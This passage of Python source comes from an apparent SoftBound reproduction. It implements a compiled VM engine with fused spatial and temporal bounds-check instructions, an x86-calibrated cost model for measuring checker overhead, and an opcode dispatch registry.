    lock_uid = instr.dst_lock.uid if temporal else None
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        addr_acc = engine.acc(instr.addr)
        machine = engine.machine
        profile = machine.site_profile
        if profile is not None:
            counts = profile.counts
            pkey = ("sb_meta_load",) + tuple(site_of(instr))

        if temporal:
            if profile is not None:

                def op(frame, regs):
                    n = st.instructions + 1
                    st.instructions = n
                    if n > limit:
                        raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                    counts[pkey] = counts.get(pkey, 0) + 1
                    addr = addr_acc(regs)
                    facility = machine.sb_runtime.facility
                    base, bound = facility.load(addr, st)
                    regs[base_uid] = base
                    regs[bound_uid] = bound
                    key, lock = facility.load_temporal(addr, st)
                    regs[key_uid] = key
                    regs[lock_uid] = lock
                    st.metadata_loads += 1
                    return nxt

                return op

            # Widened entry: both halves of the slot's metadata in one
            # dispatch (the facility charges each half's cost).
            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                addr = addr_acc(regs)
                facility = machine.sb_runtime.facility
                base, bound = facility.load(addr, st)
                regs[base_uid] = base
                regs[bound_uid] = bound
                key, lock = facility.load_temporal(addr, st)
                regs[key_uid] = key
                regs[lock_uid] = lock
                st.metadata_loads += 1
                return nxt

            return op

        if profile is not None:

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[pkey] = counts.get(pkey, 0) + 1
                base, bound = machine.sb_runtime.facility.load(addr_acc(regs), st)
                regs[base_uid] = base
                regs[bound_uid] = bound
                st.metadata_loads += 1
                return nxt

            return op

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            base, bound = machine.sb_runtime.facility.load(addr_acc(regs), st)
            regs[base_uid] = base
            regs[bound_uid] = bound
            st.metadata_loads += 1
            return nxt

        return op

    return make


def _build_sb_meta_store(instr, index, offsets, block):
    temporal = instr.key is not None
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        addr_acc = engine.acc(instr.addr)
        base_acc = engine.acc(instr.base)
        bound_acc = engine.acc(instr.bound)
        key_acc = engine.acc(instr.key) if temporal else None
        lock_acc = engine.acc(instr.lock) if temporal else None
        machine = engine.machine

        if temporal:

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                addr = addr_acc(regs)
                facility = machine.sb_runtime.facility
                facility.store(addr, base_acc(regs), bound_acc(regs), st)
                facility.store_temporal(addr, key_acc(regs), lock_acc(regs), st)
                st.metadata_stores += 1
                return nxt

            return op

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            machine.sb_runtime.facility.store(
                addr_acc(regs), base_acc(regs), bound_acc(regs), st)
            st.metadata_stores += 1
            return nxt

        return op

    return make


def _build_sb_temporal_check(instr, index, offsets, block):
    access_kind = instr.access_kind
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        ptr_acc = engine.acc(instr.ptr)
        key_acc = engine.acc(instr.key)
        lock_acc = engine.acc(instr.lock)
        # The lock table dict is bound directly: the liveness predicate
        # inlines to one dict probe plus a compare.
        slots = engine.machine.sb_runtime.lockspace.slots
        tcost = OP_COSTS["sb.temporal.check"]
        profile = engine.machine.site_profile

        if profile is not None:
            counts = profile.counts
            pkey = ("sb_temporal_check",) + tuple(site_of(instr))

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[pkey] = counts.get(pkey, 0) + 1
                key = key_acc(regs)
                st.temporal_checks += 1
                st.cost += tcost
                if key == 0 or slots.get(lock_acc(regs)) != key:
                    from .errors import temporal_violation

                    raise temporal_violation(access_kind, ptr_acc(regs), key,
                                             lock_acc(regs))
                return nxt

            return op

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            key = key_acc(regs)
            st.temporal_checks += 1
            st.cost += tcost
            if key == 0 or slots.get(lock_acc(regs)) != key:
                from .errors import temporal_violation

                raise temporal_violation(access_kind, ptr_acc(regs), key,
                                         lock_acc(regs))
            return nxt

        return op

    return make


def _build_sb_meta_clear(instr, index, offsets, block):
    nxt = index + 1

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        addr_acc = engine.acc(instr.addr)
        size_acc = engine.acc(instr.size)
        machine = engine.machine

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            machine.sb_runtime.facility.clear_range(
                addr_acc(regs), size_acc(regs), st)
            return nxt

        return op

    return make


# -- fused superinstructions -------------------------------------------------
#
# Each fused closure performs two logical instructions and returns
# ``index + 2`` (or transfers control).  Statistics — instruction count,
# budget checks, cost units — are charged at exactly the same points as
# the unfused sequence, so traps raised mid-pair leave identical state.
# The second instruction of a pair keeps its standalone closure at its
# own index so call returns and ``longjmp`` can still resume there.


def _try_fuse(first, second, index, offsets, block):
    if (first.opcode == "cmp" and second.opcode == "cbr"
            and isinstance(second.cond, Register)
            and second.cond.uid == first.dst.uid):
        return _build_cmp_cbr(first, second, index, offsets)
    if (first.opcode == "gep" and second.opcode == "load"
            and isinstance(second.addr, Register)
            and second.addr.uid == first.dst.uid):
        return _build_gep_load(first, second, index)
    if (first.opcode == "gep" and second.opcode == "store"
            and isinstance(second.addr, Register)
            and second.addr.uid == first.dst.uid):
        return _build_gep_store(first, second, index)
    if (first.opcode == "sb_meta_load" and second.opcode == "sb_check"
            and not second.is_fnptr_check
            and isinstance(second.base, Register)
            and isinstance(second.bound, Register)
            and second.base.uid == first.dst_base.uid
            and second.bound.uid == first.dst_bound.uid):
        return _build_meta_load_check(first, second, index)
    if (first.opcode == "gep" and second.opcode == "sb_check"
            and not second.is_fnptr_check
            and isinstance(second.ptr, Register)
            and second.ptr.uid == first.dst.uid):
        return _build_gep_check(first, second, index)
    if (first.opcode == "sb_check" and second.opcode == "sb_temporal_check"
            and not first.is_fnptr_check):
        return _build_check_temporal_check(first, second, index)
    return None


def _build_cmp_cbr(cmp_instr, cbr_instr, index, offsets):
    uid = cmp_instr.dst.uid
    target_true = offsets[cbr_instr.true_label]
    target_false = offsets[cbr_instr.false_label]

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        test = _cmp_evaluator(cmp_instr, engine)

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            result = test(regs)
            regs[uid] = 1 if result else 0
            st.cost += _COST_CMP
            n += 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            st.cost += _COST_CBR
            return target_true if result else target_false

        return op

    return make


def _build_gep_load(gep_instr, load_instr, index):
    gep_uid = gep_instr.dst.uid
    load_uid = load_instr.dst.uid
    irtype = load_instr.type
    size = irtype.size
    is_ptr_val = load_instr.is_pointer_value
    nxt = index + 2

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        observers = engine.observers
        addr_of = _gep_evaluator(gep_instr, engine)
        codec = _load_codec(irtype)

        if not observers and codec is not None:
            unpack = codec.unpack_from
            width = codec.size
            segment_for = engine.memory._segment_for
            cached = engine.memory.heap

            def op(frame, regs):
                nonlocal cached
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                addr = addr_of(regs)
                regs[gep_uid] = addr
                st.cost += _COST_GEP
                n += 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                seg = cached
                if addr < seg.base or addr + width > seg.end:
                    seg = segment_for(addr, width)
                    if seg is None:
                        raise Trap(TrapKind.SEGFAULT,
                                   f"read of {width} bytes", address=addr)
                    cached = seg
                regs[load_uid] = unpack(seg.data, addr - seg.base)[0]
                st.cost += _COST_LOAD
                st.memory_ops += 1
                if is_ptr_val:
                    st.pointer_memory_ops += 1
                return nxt

            return op

        read = _make_loader(engine, irtype)

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            addr = addr_of(regs)
            regs[gep_uid] = addr
            st.cost += _COST_GEP
            n += 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            if observers:
                for observer in observers:
                    observer.on_load(addr, size)
            regs[load_uid] = read(addr)
            st.cost += _COST_LOAD
            st.memory_ops += 1
            if is_ptr_val:
                st.pointer_memory_ops += 1
            return nxt

        return op

    return make


def _build_gep_store(gep_instr, store_instr, index):
    gep_uid = gep_instr.dst.uid
    irtype = store_instr.type
    size = irtype.size
    is_float = irtype.is_float
    is_ptr_val = store_instr.is_pointer_value
    nxt = index + 2

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        observers = engine.observers
        addr_of = _gep_evaluator(gep_instr, engine)
        val_acc = engine.acc(store_instr.value)
        memory = engine.memory
        runtime = engine.machine.sb_runtime
        on_pstore = None
        if not is_ptr_val and runtime is not None and runtime.observes_stores:
            on_pstore = runtime.on_program_store
        codec = None if is_float else _SCALAR_CODECS.get((size, False))

        if not observers and on_pstore is None and codec is not None:
            pack_into = codec.pack_into
            vmask = (1 << (size * 8)) - 1
            segment_for = memory._segment_for
            cached = memory.heap

            def op(frame, regs):
                nonlocal cached
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                addr = addr_of(regs)
                regs[gep_uid] = addr
                st.cost += _COST_GEP
                n += 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                value = val_acc(regs)
                seg = cached
                if addr < seg.base or addr + size > seg.end:
                    seg = segment_for(addr, size)
                    if seg is None:
                        raise Trap(TrapKind.SEGFAULT,
                                   f"write of {size} bytes", address=addr)
                    cached = seg
                pack_into(seg.data, addr - seg.base, int(value) & vmask)
                st.cost += _COST_STORE
                st.memory_ops += 1
                if is_ptr_val:
                    st.pointer_memory_ops += 1
                return nxt

            return op

        if is_float:
            write = memory.f64_writer()
        else:
            try:
                write = memory.scalar_writer(size)
            except KeyError:
                write = lambda addr, value: memory.write_int(addr, value, size)

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            addr = addr_of(regs)
            regs[gep_uid] = addr
            st.cost += _COST_GEP
            n += 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            value = val_acc(regs)
            if observers:
                for observer in observers:
                    observer.on_store(addr, size)
            if is_float:
                write(addr, value)
            else:
                write(addr, int(value))
            st.cost += _COST_STORE
            st.memory_ops += 1
            if is_ptr_val:
                st.pointer_memory_ops += 1
            elif on_pstore is not None:
                on_pstore(addr, size)
            return nxt

        return op

    return make


def _build_gep_check(gep_instr, check_instr, index):
    """``gep`` + ``sb_check`` on the freshly computed address — the
    dominant instrumented-loop shape (the check sits between the ``gep``
    and the memory operation, so the gep+load/store fusions cannot
    apply there).  One dispatch and one register-file read saved per
    checked access."""
    gep_uid = gep_instr.dst.uid
    access_kind = check_instr.access_kind
    nxt = index + 2

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        addr_of = _gep_evaluator(gep_instr, engine)
        base_acc = engine.acc(check_instr.base)
        bound_acc = engine.acc(check_instr.bound)
        size_acc = engine.acc(check_instr.size)
        runtime = engine.machine.sb_runtime
        check_cost = OP_COSTS[getattr(runtime, "check_cost_key", "sb.check")]
        profile = engine.machine.site_profile

        if profile is not None:
            counts = profile.counts
            check_key = ("sb_check",) + tuple(site_of(check_instr))

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                addr = addr_of(regs)
                regs[gep_uid] = addr
                st.cost += _COST_GEP
                n += 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[check_key] = counts.get(check_key, 0) + 1
                base = base_acc(regs)
                bound = bound_acc(regs)
                size = size_acc(regs)
                st.checks += 1
                st.cost += check_cost
                if addr < base or addr + size > bound:
                    raise Trap(
                        TrapKind.SPATIAL_VIOLATION,
                        f"{access_kind} of {size} bytes outside "
                        f"[0x{base:x}, 0x{bound:x})",
                        address=addr,
                        source="softbound",
                    )
                return nxt

            return op

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            addr = addr_of(regs)
            regs[gep_uid] = addr
            st.cost += _COST_GEP
            n += 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            base = base_acc(regs)
            bound = bound_acc(regs)
            size = size_acc(regs)
            st.checks += 1
            st.cost += check_cost
            if addr < base or addr + size > bound:
                raise Trap(
                    TrapKind.SPATIAL_VIOLATION,
                    f"{access_kind} of {size} bytes outside "
                    f"[0x{base:x}, 0x{bound:x})",
                    address=addr,
                    source="softbound",
                )
            return nxt

        return op

    return make


def _build_meta_load_check(meta_instr, check_instr, index):
    base_uid = meta_instr.dst_base.uid
    bound_uid = meta_instr.dst_bound.uid
    temporal = meta_instr.dst_key is not None
    key_uid = meta_instr.dst_key.uid if temporal else None
    lock_uid = meta_instr.dst_lock.uid if temporal else None
    access_kind = check_instr.access_kind
    nxt = index + 2

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        addr_acc = engine.acc(meta_instr.addr)
        ptr_acc = engine.acc(check_instr.ptr)
        size_acc = engine.acc(check_instr.size)
        machine = engine.machine
        runtime = machine.sb_runtime
        check_cost = OP_COSTS[getattr(runtime, "check_cost_key", "sb.check")]
        profile = machine.site_profile

        if profile is not None:
            counts = profile.counts
            meta_key = ("sb_meta_load",) + tuple(site_of(meta_instr))
            check_key = ("sb_check",) + tuple(site_of(check_instr))

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[meta_key] = counts.get(meta_key, 0) + 1
                facility = machine.sb_runtime.facility
                addr = addr_acc(regs)
                base, bound = facility.load(addr, st)
                regs[base_uid] = base
                regs[bound_uid] = bound
                if temporal:
                    tkey, tlock = facility.load_temporal(addr, st)
                    regs[key_uid] = tkey
                    regs[lock_uid] = tlock
                st.metadata_loads += 1
                n += 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[check_key] = counts.get(check_key, 0) + 1
                ptr = ptr_acc(regs)
                size = size_acc(regs)
                st.checks += 1
                st.cost += check_cost
                if ptr < base or ptr + size > bound:
                    raise Trap(
                        TrapKind.SPATIAL_VIOLATION,
                        f"{access_kind} of {size} bytes outside "
                        f"[0x{base:x}, 0x{bound:x})",
                        address=ptr,
                        source="softbound",
                    )
                return nxt

            return op

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            facility = machine.sb_runtime.facility
            addr = addr_acc(regs)
            base, bound = facility.load(addr, st)
            regs[base_uid] = base
            regs[bound_uid] = bound
            if temporal:
                tkey, tlock = facility.load_temporal(addr, st)
                regs[key_uid] = tkey
                regs[lock_uid] = tlock
            st.metadata_loads += 1
            n += 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            ptr = ptr_acc(regs)
            size = size_acc(regs)
            st.checks += 1
            st.cost += check_cost
            if ptr < base or ptr + size > bound:
                raise Trap(
                    TrapKind.SPATIAL_VIOLATION,
                    f"{access_kind} of {size} bytes outside "
                    f"[0x{base:x}, 0x{bound:x})",
                    address=ptr,
                    source="softbound",
                )
            return nxt

        return op

    return make


def _build_check_temporal_check(check_instr, temporal_instr, index):
    """``sb_check`` + ``sb_temporal_check`` — the canonical instrumented
    deref shape under temporal checking (the transform always emits the
    pair back-to-back).  One dispatch saved per checked access; the
    spatial half traps first, exactly as unfused."""
    access_kind = check_instr.access_kind
    t_access_kind = temporal_instr.access_kind
    nxt = index + 2

    def make(engine, function):
        st = engine.stats
        limit = engine.limit
        ptr_acc = engine.acc(check_instr.ptr)
        base_acc = engine.acc(check_instr.base)
        bound_acc = engine.acc(check_instr.bound)
        size_acc = engine.acc(check_instr.size)
        t_ptr_acc = engine.acc(temporal_instr.ptr)
        key_acc = engine.acc(temporal_instr.key)
        lock_acc = engine.acc(temporal_instr.lock)
        runtime = engine.machine.sb_runtime
        check_cost = OP_COSTS[getattr(runtime, "check_cost_key", "sb.check")]
        tcost = OP_COSTS["sb.temporal.check"]
        slots = runtime.lockspace.slots if runtime.lockspace is not None else {}
        profile = engine.machine.site_profile

        if profile is not None:
            counts = profile.counts
            check_key = ("sb_check",) + tuple(site_of(check_instr))
            temporal_key = ("sb_temporal_check",) + tuple(site_of(temporal_instr))

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[check_key] = counts.get(check_key, 0) + 1
                ptr = ptr_acc(regs)
                base = base_acc(regs)
                bound = bound_acc(regs)
                size = size_acc(regs)
                st.checks += 1
                st.cost += check_cost
                if ptr < base or ptr + size > bound:
                    raise Trap(
                        TrapKind.SPATIAL_VIOLATION,
                        f"{access_kind} of {size} bytes outside "
                        f"[0x{base:x}, 0x{bound:x})",
                        address=ptr,
                        source="softbound",
                    )
                n += 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
                counts[temporal_key] = counts.get(temporal_key, 0) + 1
                key = key_acc(regs)
                st.temporal_checks += 1
                st.cost += tcost
                if key == 0 or slots.get(lock_acc(regs)) != key:
                    from .errors import temporal_violation

                    raise temporal_violation(t_access_kind, t_ptr_acc(regs), key,
                                             lock_acc(regs))
                return nxt

            return op

        def op(frame, regs):
            n = st.instructions + 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            ptr = ptr_acc(regs)
            base = base_acc(regs)
            bound = bound_acc(regs)
            size = size_acc(regs)
            st.checks += 1
            st.cost += check_cost
            if ptr < base or ptr + size > bound:
                raise Trap(
                    TrapKind.SPATIAL_VIOLATION,
                    f"{access_kind} of {size} bytes outside "
                    f"[0x{base:x}, 0x{bound:x})",
                    address=ptr,
                    source="softbound",
                )
            n += 1
            st.instructions = n
            if n > limit:
                raise Trap(TrapKind.RESOURCE_LIMIT, _RESOURCE_MSG)
            key = key_acc(regs)
            st.temporal_checks += 1
            st.cost += tcost
            if key == 0 or slots.get(lock_acc(regs)) != key:
                from .errors import temporal_violation

                raise temporal_violation(t_access_kind, t_ptr_acc(regs), key,
                                         lock_acc(regs))
            return nxt

        return op

    return make


# The builder table is the *shared registry* from
# :mod:`repro.vm.dispatch`: core builders register here at import, and
# checker policies register their own opcodes' builders through the
# same door.  An opcode registered with only an interpreter handler is
# still executable — ``_build_instr`` adapts it generically.
from .dispatch import ENGINE_BUILDERS as _BUILDERS, register_opcode

for _opcode, _builder in (
    ("alloca", _build_alloca),
    ("load", _build_load),
    ("store", _build_store),
    ("binop", _build_binop),
    ("cmp", _build_cmp),
    ("gep", _build_gep),
    ("cast", _build_cast),
    ("mov", _build_mov),
    ("br", _build_br),
    ("cbr", _build_cbr),
    ("unreachable", _build_unreachable),
    ("memcopy", _build_memcopy),
    ("call", _build_call),
    ("ret", _build_ret),
    ("sb_check", _build_sb_check),
    ("sb_temporal_check", _build_sb_temporal_check),
    ("sb_meta_load", _build_sb_meta_load),
    ("sb_meta_store", _build_sb_meta_store),
    ("sb_meta_clear", _build_sb_meta_clear),
):
    register_opcode(_opcode, builder=_builder)
del _opcode, _builder
