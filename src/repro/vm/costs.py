"""Deterministic x86-calibrated cost model.

The paper reports *runtime overhead ratios* on a Core 2 (Figure 2).  Our
substrate is an interpreter, whose own speed is meaningless; what is
meaningful — and what the paper's analysis attributes the overheads to —
is the count of extra x86-level instructions executed: ~9 per hash-table
metadata access, ~5 per shadow-space access (paper Section 5.1), plus a
few for each bounds check.  We therefore charge every executed IR
operation a cost approximating its x86 instruction count (weighted
slightly for memory latency) and report overhead as
``cost(instrumented) / cost(baseline) - 1``.

The calibration constants below are documented in EXPERIMENTS.md; tests
pin the *relative* ordering the paper's Figure 2 depends on
(hash > shadow, full > store-only).
"""

from dataclasses import dataclass, field

# Base IR operation costs (approximate x86 instructions, memory ops
# weighted x2 for latency).
OP_COSTS = {
    "binop.add": 1,
    "binop.sub": 1,
    "binop.and": 1,
    "binop.or": 1,
    "binop.xor": 1,
    "binop.shl": 1,
    "binop.lshr": 1,
    "binop.ashr": 1,
    "binop.mul": 3,
    "binop.sdiv": 20,
    "binop.udiv": 20,
    "binop.srem": 20,
    "binop.urem": 20,
    "binop.fadd": 3,
    "binop.fsub": 3,
    "binop.fmul": 4,
    "binop.fdiv": 15,
    "cmp": 1,
    "gep": 1,       # lea
    "cast": 1,
    "mov": 0,     # reg-reg moves disappear under register renaming
    "load": 2,
    "store": 2,
    "alloca": 0,    # folded into frame setup
    "call": 2,
    "call.per_arg": 1,
    "ret": 1,
    "br": 1,
    "cbr": 1,
    "unreachable": 0,
    "memcopy.base": 4,
    "memcopy.per_8_bytes": 1,
    # SoftBound runtime operations (paper Section 5.1):
    "sb.check": 3,            # two compares + branch (+ size add)
    # 9 instructions incl. 3 loads; loads carry the same x2 latency
    # weighting as program loads, hence 12 cost units.
    "sb.meta.hash.load": 12,
    "sb.meta.hash.store": 13,
    # 5 instructions incl. 2 loads -> 7 cost units.
    "sb.meta.shadow.load": 7,
    "sb.meta.shadow.store": 7,
    "sb.fnptr.check": 2,
    "sb.vararg.check": 2,
    "sb.global.init.per_ptr": 12,
    # Lock-and-key temporal checking (CETS-style companion mechanism):
    # the check is one lock-location load (x2 latency weight) plus a
    # compare and branch; the widened metadata entry adds two extra
    # slots (key, lock) to each table access.
    "sb.temporal.check": 4,
    "sb.temporal.meta.load": 3,
    "sb.temporal.meta.store": 3,
    "sb.temporal.lock.acquire": 6,   # key counter + lock-slot write
    "sb.temporal.lock.release": 3,   # lock-slot invalidation write
    "sb.temporal.global.init.per_ptr": 6,
    # Baseline checker operations:
    "jk.splay.per_level": 6,   # object-table lookup, per tree level
    "jk.check": 4,
    "mscc.meta.load": 11,      # linked shadow structures (incl. chasing)
    "mscc.meta.store": 12,
    "mscc.check": 4,
    "fatptr.load": 6,          # multi-word pointer load
    "fatptr.store": 6,
    "fatptr.check": 3,
    "fatptr.wild.tag_update": 4,
    "valgrind.per_access": 12,  # DBI shadow-memory overhead
    "mudflap.lookup": 14,
}

def register_costs(mapping):
    """Merge a checker policy's cost keys into :data:`OP_COSTS`
    (:meth:`repro.policy.base.CheckerPolicy.cost_model`, applied at
    policy registration).  Idempotent for identical re-registration;
    re-pricing an existing key raises — the calibrated constants above
    are documented in EXPERIMENTS.md and must not drift silently."""
    for key, units in mapping.items():
        existing = OP_COSTS.get(key)
        if existing is not None and existing != units:
            raise ValueError(f"cost key {key!r} already priced at "
                             f"{existing}, refusing to re-price to {units}")
        OP_COSTS[key] = units


# Libc costs: (base, per_byte) pairs.
LIBC_COSTS = {
    "strcpy": (6, 2),
    "strncpy": (6, 2),
    "strcat": (8, 2),
    "strlen": (4, 1),
    "strcmp": (4, 2),
    "strncmp": (4, 2),
    "strchr": (4, 1),
    "memcpy": (6, 1),
    "memmove": (8, 1),
    "memset": (4, 1),
    "memcmp": (4, 1),
    "gets": (8, 2),
    "printf": (40, 1),
    "sprintf": (30, 1),
    "snprintf": (30, 1),
    "puts": (10, 1),
    "putchar": (6, 0),
    "getchar": (6, 0),
    "atoi": (8, 2),
    "malloc": (40, 0),
    "calloc": (48, 1),
    "realloc": (60, 1),
    "free": (30, 0),
    "rand": (8, 0),
    "srand": (4, 0),
    "abs": (2, 0),
    "labs": (2, 0),
    "sqrt": (20, 0),
    "fabs": (2, 0),
    "floor": (4, 0),
    "ceil": (4, 0),
    "pow": (40, 0),
    "sin": (40, 0),
    "cos": (40, 0),
    "exp": (40, 0),
    "log": (40, 0),
    "setjmp": (20, 0),
    "longjmp": (20, 0),
    "exit": (4, 0),
    "abort": (4, 0),
    "setbound": (2, 0),
    "va_start": (3, 0),
    "va_arg_long": (3, 0),
    "va_arg_ptr": (3, 0),
    "va_end": (1, 0),
}


@dataclass(slots=True)
class CostStats:
    """Per-run dynamic statistics.

    ``slots=True`` matters: the compiled engine bumps these counters on
    every executed instruction, and slot access skips the instance-dict
    lookup."""

    cost: int = 0
    instructions: int = 0
    memory_ops: int = 0
    pointer_memory_ops: int = 0
    checks: int = 0
    temporal_checks: int = 0
    metadata_loads: int = 0
    metadata_stores: int = 0
    calls: int = 0
    peak_heap: int = 0
    metadata_bytes: int = 0

    def charge(self, key, times=1):
        self.cost += OP_COSTS[key] * times

    def charge_units(self, units):
        self.cost += units

    def charge_libc(self, name, nbytes=0):
        base, per_byte = LIBC_COSTS.get(name, (10, 1))
        self.cost += base + per_byte * nbytes

    @property
    def pointer_memory_op_fraction(self):
        """Fraction of memory operations that move a *pointer* value —
        the quantity Figure 1 plots and Figure 2's overheads track."""
        if self.memory_ops == 0:
            return 0.0
        return self.pointer_memory_ops / self.memory_ops


def overhead_percent(baseline_cost, instrumented_cost):
    """Figure 2's metric: percentage runtime overhead over baseline."""
    if baseline_cost == 0:
        return 0.0
    return (instrumented_cost / baseline_cost - 1.0) * 100.0
