"""Shared VM dispatch registry: one door for new opcodes, two engines.

The interpreting machine (:mod:`repro.vm.machine`) and the
closure-compiled engine (:mod:`repro.vm.engine`) each keep a dispatch
table mapping opcode names to execution strategies.  Historically those
tables were closed module literals with the SoftBound runtime opcodes
baked in; this module turns them into registries the two modules
*populate at import* and that checker policies extend at registration
(:meth:`repro.policy.base.CheckerPolicy.register_vm_handlers`).

A registration carries up to two strategies:

* ``interp`` — ``fn(machine, frame, instr)``; the reference
  interpreter's handler.  Return ``None`` to fall through to the next
  instruction, or a truthy value after setting ``frame.block``/``index``
  for control transfers (exactly the discipline of the built-in
  handlers).
* ``builder`` — ``fn(instr, index, offsets, block) -> make(engine,
  function) -> op(frame, regs) -> next_index``; the compiled engine's
  two-stage closure builder (see :mod:`repro.vm.engine`'s module
  docstring for the contract).  When omitted, the engine wraps the
  interpreter handler in a generic adapter charging the same
  instruction-count bookkeeping, so a policy can ship a working opcode
  with only an ``interp`` handler and specialize later.

Both machine and engine read the *live* dicts, so opcodes registered
after a machine was constructed are still dispatchable (the compiled
engine translates blocks lazily).
"""

#: opcode -> fn(machine, frame, instr) for the reference interpreter.
INTERP_HANDLERS = {}

#: opcode -> two-stage closure builder for the compiled engine.
ENGINE_BUILDERS = {}


def register_opcode(opcode, interp=None, builder=None):
    """Register execution strategies for ``opcode``.

    Idempotent for identical re-registration; conflicting handlers for
    the same opcode raise (two policies disagreeing on an opcode's
    semantics is a bug).  Either strategy may be None — the engine
    falls back to adapting the interpreter handler.
    """
    if interp is None and builder is None:
        raise ValueError(f"register_opcode({opcode!r}): no handler given")
    for table, fn in ((INTERP_HANDLERS, interp), (ENGINE_BUILDERS, builder)):
        if fn is None:
            continue
        existing = table.get(opcode)
        if existing is not None and existing is not fn:
            raise ValueError(f"opcode {opcode!r} already has a registered "
                             f"handler")
        table[opcode] = fn
    return opcode


def adapt_interp_handler(opcode):
    """A generic compiled-engine builder delegating to the registered
    interpreter handler — correct (same statistics discipline as the
    built-in builders: count, budget check, then execute) but
    unspecialized.  Only straight-line opcodes may rely on this
    fallback (registered check/metadata opcodes are; a control-transfer
    opcode must ship a real builder).  Policies that care about speed
    register a real builder too."""
    from .errors import Trap, TrapKind

    def build(instr, index, offsets, block):
        nxt = index + 1

        def make(engine, function):
            from .machine import RESOURCE_LIMIT_MSG

            machine = engine.machine
            st = engine.stats
            limit = engine.limit
            handler = INTERP_HANDLERS[opcode]

            def op(frame, regs):
                n = st.instructions + 1
                st.instructions = n
                if n > limit:
                    raise Trap(TrapKind.RESOURCE_LIMIT, RESOURCE_LIMIT_MSG)
                if handler(machine, frame, instr) is not None:
                    # The handler transferred control (interp contract),
                    # which this adapter cannot mirror — failing loudly
                    # beats silently executing the wrong successor.
                    raise Trap(
                        TrapKind.UNREACHABLE,
                        f"opcode {opcode!r} transfers control; it needs "
                        f"a real engine builder, not the interp adapter")
                return nxt

            return op

        return make

    return build
