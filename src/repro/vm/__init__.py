"""Virtual machine: simulated memory, interpreter, libc, cost model."""

from .costs import CostStats, overhead_percent
from .errors import ExecutionResult, Trap, TrapKind
from .machine import Machine, Observer
from .memory import Memory

__all__ = ["CostStats", "overhead_percent", "ExecutionResult", "Trap",
           "TrapKind", "Machine", "Observer", "Memory"]
