"""SoftBound reproduction.

